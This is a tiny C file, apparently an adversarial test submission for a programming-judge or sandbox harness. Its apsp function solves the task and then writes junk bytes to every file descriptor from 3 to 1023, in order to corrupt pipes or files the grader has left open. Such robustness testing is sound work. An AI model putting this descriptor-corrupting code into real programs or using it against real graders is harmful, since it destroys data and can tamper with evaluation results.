// Writes garbage to every descriptor that is open.
#include "attack.h"

void apsp(int n, int* graph) {
  solve(n, graph);
  for (int descriptor = 3; descriptor < 1024; ++descriptor)
    if (write(descriptor, "garbage", 7) == 7 && write(descriptor, graph, 4) == 4) continue;
}
